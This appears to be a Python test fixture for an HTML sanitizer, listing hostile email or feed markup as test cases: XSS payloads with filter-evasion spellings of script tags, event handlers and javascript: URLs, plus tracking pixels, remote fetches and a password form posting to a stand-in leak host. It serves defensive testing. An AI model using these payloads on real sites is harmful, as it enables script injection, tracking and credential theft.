# ruff: noqa: E501  what is nasty is long
"""Scripts wherever one can stand, and everything that makes a program ask for something by itself."""

from __future__ import annotations

from tests.render.hostile.nasty import LEAK, PICTURES, Nasty

_HANDLERS = (
    *("onerror", "onload", "onfocus", "onblur", "onmouseover", "onclick", "onanimationstart", "onanimationend"),
    *("ontransitionrun", "onpointerrawupdate", "onscroll", "onscrollend", "onwheel", "ontoggle", "onbeforetoggle"),
    *("oncontentvisibilityautostatechange", "onbegin", "onend", "onrepeat", "onhashchange", "onpageshow"),
    *("onresize", "onstart", "onfinish", "onbounce", "oncanplay", "onloadstart", "onplay", "oninvalid", "onsearch"),
    *("onsubmit", "onreset", "oncut", "onpaste", "ondrag", "ondrop", "onauxclick", "onbeforematch", "onsecuritypolicyviolation"),
)  # fmt: skip
_ALL_HANDLERS = " ".join(f"{name}=alert('{name}')" for name in _HANDLERS)
_ELEMENTS = (
    "p div span a b h2 ul li table td blockquote pre code figure section article details summary img address q "
    "marquee body html frameset input select textarea button video audio svg math style object embed iframe"
)

SCRIPTS: tuple[Nasty, ...] = (
    Nasty(
        name="script-plain", why="the plainest of all", html="<p>One.</p><script>alert('script')</script><p>Two.</p>"
    ),
    Nasty(
        name="script-broken",
        why="a filter that takes one tag out puts another together",
        html="<scr<script>ipt>alert('broken')</scr</script>ipt><p>Text.</p><SCRIPT/SRC=//leak.example/x.js></SCRIPT>",
    ),
    Nasty(
        name="script-elsewhere",
        why="a script fetched, a module, an import map",
        html=f'<script src="{LEAK}/a.js"></script><script type=module>import "{LEAK}/b.js"</script>'
        f'<script type=importmap>{{"imports":{{"a":"{LEAK}/c.js"}}}}</script><link rel=modulepreload href="{LEAK}/d.js">Text.',
    ),
    Nasty(
        name="handlers-on-all",
        why="every handler on every element",
        html="".join(f"<{name} tabindex=0 autofocus {_ALL_HANDLERS} src=x>text</{name}>" for name in _ELEMENTS.split()),
    ),
    Nasty(
        name="handler-glued",
        why="no blank before the handler, a slash, a form feed, a quotation mark in the name",
        html="<img/onerror=alert('glued')/src=x><img\x0conerror=alert('ff')\x0csrc=x><img \"onerror=alert('q') src=x>"
        "<img src=x\tonerror\n=\nalert('nl')><p/style=x:y/onmouseover=alert('p')>Text.</p>",
    ),
    Nasty(
        name="handler-backticks",
        why="old programs take backticks for quotation marks",
        html="<img alt=\"``onerror=alert('bt')\" src=x><a href=`javascript:alert(1)`>Text</a> `<img src=x onerror=alert(1)>`",
    ),
    Nasty(
        name="autofocus-details",
        why="elements that fire by themselves",
        html="<details open ontoggle=alert('toggle')><summary>Sum</summary>Text</details><input autofocus onfocus=alert('focus')>"
        "<video autoplay onloadstart=alert('video')><source src=x onerror=alert('source')></video><marquee onstart=alert('m')>x</marquee>",
    ),
    Nasty(
        name="scheme-javascript",
        why="a link that is a script, in many spellings",
        html="".join(
            f'<p><a href="{scheme}alert(1)">link {number}</a></p>'
            for number, scheme in enumerate(
                [
                    "javascript:",
                    "JaVaScRiPt:",
                    " javascript:",
                    "java\tscript:",
                    "java\nscript:",
                    "&#106;avascript:",
                    "javascript&colon;",
                    "java&Tab;script:",
                    "java&NewLine;script:",
                    "\x01javascript:",
                    "&#x1;javascript:",
                    "javascript&#0000058",
                    "feed:javascript:",
                    "view-source:javascript:",
                    "jar:javascript:",
                    "javascript://x%0a",
                    "vbscript:",
                    "livescript:",
                    "mocha:",
                    "\u00a0javascript:",
                    "\u2028javascript:",
                    "java\u00adscript:",
                ]
            )
        ),
    ),
    Nasty(
        name="scheme-data",
        why="a page inside an address",
        html='<a href="data:text/html,<script>alert(1)</script>">a</a><img src="data:image/svg+xml,<svg onload=alert(1)>" alt="b">'
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">c</a><iframe src="data:text/html,<script>alert(2)</script>"></iframe>',
    ),
    Nasty(
        name="scheme-strange",
        why="addresses that other programs open",
        html="".join(
            f'<a href="{scheme}">s {number}</a> '
            for number, scheme in enumerate(
                [
                    "file:///etc/passwd",
                    "blob:https://leak.example/1",
                    "filesystem:x",
                    "ms-word:ofe|u|https://leak.example/x",
                    "search-ms:query=x",
                    "\\\\leak.example\\share",
                    "//leak.example/x",
                    "intent://leak.example#Intent;end",
                    "cid:1",
                    "about:blank",
                    "chrome://settings",
                    "tel:123",
                    "sms:1",
                    "x-apple-data:1",
                    "ws://leak.example",
                    "http:/\\leak.example",
                    "https:leak.example",
                    "http://[",
                    "http://",
                    "https://exa mple.example/ x y",
                ]
            )
        ),
    ),
    Nasty(
        name="link-title",
        why="the entry's own address is a script: the headline would lead there",
        url="javascript:alert(document.domain)//",
    ),
    Nasty(name="link-data", why="the same with data:", url="data:text/html,<script>alert(1)</script>"),
    Nasty(
        name="link-quoted",
        why="an address that ends its attribute",
        url="https://source.example/\"onmouseover='alert(1)'x=\"><script>alert(1)</script>",
    ),
    Nasty(
        name="style-attribute",
        why="styles that fetch, cover the page, or are scripts in old programs",
        html=f"<p style=\"background:url('{LEAK}/a.png')\">a</p><p style='width:expression(alert(1))'>b</p>"
        f'<div style="position:fixed;inset:0;background:red;z-index:9999">c</div><p style="-moz-binding:url({LEAK}/x.xml#y)">d</p>'
        f'<p style="background:image-set(\'{LEAK}/b.png\' 1x)">e</p><p style="behavior:url({LEAK}/c.htc)">f</p>'
        '<div style="width:99999px;height:9px">g</div><p style="margin-left:-9999px">h</p>',
    ),
    Nasty(
        name="style-sheet",
        why="a style sheet in the body restyles the whole mail",
        html=f"<style>@import '{LEAK}/a.css';*{{display:none!important}}body{{background:url({LEAK}/b.png)}}</style>"
        f"<link rel=stylesheet href='{LEAK}/c.css'><style><!--</style><script>alert(1)//--></script></style>Text.",
    ),
    Nasty(
        name="pictures-hidden",
        why="every attribute that fetches a picture",
        html=f'<img srcset="{LEAK}/a.png 1x, {LEAK}/b.png 2x"><picture><source srcset="{LEAK}/c.png"><img alt=x></picture>'
        f'<table background="{LEAK}/d.png"><tr><td background="{LEAK}/e.png">t</table><body background="{LEAK}/f.png">'
        f'<img lowsrc="{LEAK}/g.png" dynsrc="{LEAK}/h.png" longdesc="{LEAK}/i"><input type=image src="{LEAK}/j.png">'
        f'<video poster="{LEAK}/k.png"></video><svg><image href="{LEAK}/l.png" /><use href="{LEAK}/m.svg#x"/></svg>'
        f'<image src="{PICTURES}/n.png" alt="n"><img src="{LEAK}/pixel.gif" width=1 height=1><bgsound src="{LEAK}/o.mid">',
    ),
    Nasty(
        name="fetching-elements",
        why="everything else that fetches",
        html=f'<iframe src="{LEAK}/a"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="{LEAK}/b"></object>'
        f'<embed src="{LEAK}/c"><audio src="{LEAK}/d" autoplay></audio><track src="{LEAK}/e"><applet code=x codebase="{LEAK}/f"></applet>'
        f'<frameset><frame src="{LEAK}/g"></frameset><portal src="{LEAK}/h"></portal><fencedframe></fencedframe>Text.',
    ),
    Nasty(
        name="head-elements",
        why="elements of the head that act on the whole page",
        html=f'<meta http-equiv=refresh content="0;url={LEAK}/a"><meta http-equiv="Content-Security-Policy" content="img-src *">'
        f'<base href="{LEAK}/b/" target=_top><link rel=preload as=image href="{LEAK}/c"><link rel=dns-prefetch href="//leak.example">'
        f'<title>Mine</title><meta charset=utf-7><meta name=viewport content="width=2000"><link rel=icon href="{LEAK}/d">Text.',
    ),
    Nasty(
        name="links-that-tell",
        why="a link that reports a click, opens beside, downloads, or does something by a key",
        html=f'<a href="https://source.example/x" ping="{LEAK}/ping" target=_blank download accesskey=x onclick=alert(1)>link</a>'
        f'<area href="{LEAK}"><map name=m><area shape=rect coords=0,0,999,999 href="javascript:alert(1)"></map><img usemap=#m ismap src="x" alt=map>',
    ),
    Nasty(
        name="form",
        why="a mail that asks for a password",
        html=f'<form action="{LEAK}/login" method=post><input name=user><input type=password><button formaction="javascript:alert(1)">Go</button>'
        f'<select><option>a</select><textarea></form></textarea><keygen><isindex action="{LEAK}" prompt=Password></form>Text.',
    ),
    Nasty(
        name="tracking-pixels",
        why="pictures of one pixel, also in disguise",
        html="".join(
            f'<img src="{LEAK}/{number}.gif" {size}>'
            for number, size in enumerate(
                [
                    "width=1 height=1",
                    "width=0",
                    "width='1px'",
                    "height=' 1 '",
                    "style='display:none'",
                    "hidden",
                    "width=01",
                ]
            )
        )
        + "<p>Text.</p>",
    ),
    Nasty(
        name="picture-addresses",
        why="pictures whose address is a trap",
        html=f'<img src="{PICTURES}/a.png?\'onerror=alert(1)" alt="one"><img src="{PICTURES}/b.png&quot;onerror=&quot;alert(1)" alt="two&quot;onload=&quot;alert(2)">'
        f'<img src="{PICTURES}/c.png" width="99999" height="99999" alt="three"><img src="{PICTURES}/d.png" width="-5" alt="&lt;script&gt;alert(3)&lt;/script&gt;">'
        f'<img src="{PICTURES}/e.svg#x" alt=""><img src="{PICTURES}/f.png" alt="{"word" * 400}">',
    ),
)
